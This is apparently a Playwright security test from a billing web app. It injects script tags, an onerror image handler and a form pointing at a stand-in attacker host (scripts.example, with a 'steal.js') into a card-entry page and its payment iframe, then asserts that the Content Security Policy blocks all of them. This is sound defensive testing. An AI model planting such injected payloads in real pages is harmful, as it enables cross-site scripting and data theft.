import { proveWhoItIs } from '../support/entering.ts';
import { expect, long, test } from '../support/journey.ts';
import { signIn } from '../support/sign-in.ts';

/** A stranger's server, which none of our pages may contact. */
const STRANGER = 'https://scripts.example';
const ADDED = `<script src="${STRANGER}/steal.js"></script><script>window.stolen = 'inline'</script>
  <img src="${STRANGER}/pixel" onerror="window.stolen = 'handler'"><form action="${STRANGER}/form"><button id="pressed">Save</button></form>`;

test('(A24) scripts injected into the page of the fields, or the page around it, do not run, and nothing is sent to them', {
  tag: long,
}, async ({ page, setting, browser }) => {
  await signIn(page, 'olivia', '/billing/methods/add');
  await proveWhoItIs(page, setting, 'olivia');
  await page.getByRole('radio', { name: /^Debit or credit card/ }).check();
  await page.getByRole('button', { name: 'Continue' }).click();
  const fields = (await page.locator('iframe').getAttribute('src')) ?? '';
  // In a browser of its own: its log entries about scripts are expected here.
  const context = await browser.newContext({ storageState: await page.context().storageState() });
  for (const address of [fields, page.url()]) {
    const attacked = await context.newPage();
    const [requested, refused] = [new Set<string>(), new Set<string>()];
    await attacked.route(`${STRANGER}/**`, (route) => {
      requested.add(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: "window.stolen = 'script'" });
    });
    await attacked.route(address, async (route) => {
      const sent = await route.fetch();
      await route.fulfill({ response: sent, body: (await sent.text()).replace('</body>', `${ADDED}</body>`) });
    });
    await attacked.exposeFunction('refuse', (directive: string) => refused.add(directive));
    await attacked.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => Reflect.get(window, 'refuse')(effectiveDirective));
    });
    await attacked.goto(address);
    // Playwright's own press waits for the page that a form leads to, and this one leads nowhere.
    await attacked.locator('#pressed').evaluate((button: HTMLButtonElement) => button.click());
    await expect.poll(() => [...refused].sort(), address).toEqual(['form-action', 'img-src', 'script-src-attr', 'script-src-elem']);
    const sending = (to: string) =>
      fetch(`${to}/?4242`).then(
        () => 'sent',
        () => 'refused',
      );
    expect(await attacked.evaluate(sending, STRANGER)).toBe('refused');
    expect([await attacked.evaluate(() => Reflect.get(window, 'stolen')), [...requested]], address).toEqual([undefined, []]);
  }
  await context.close();
});
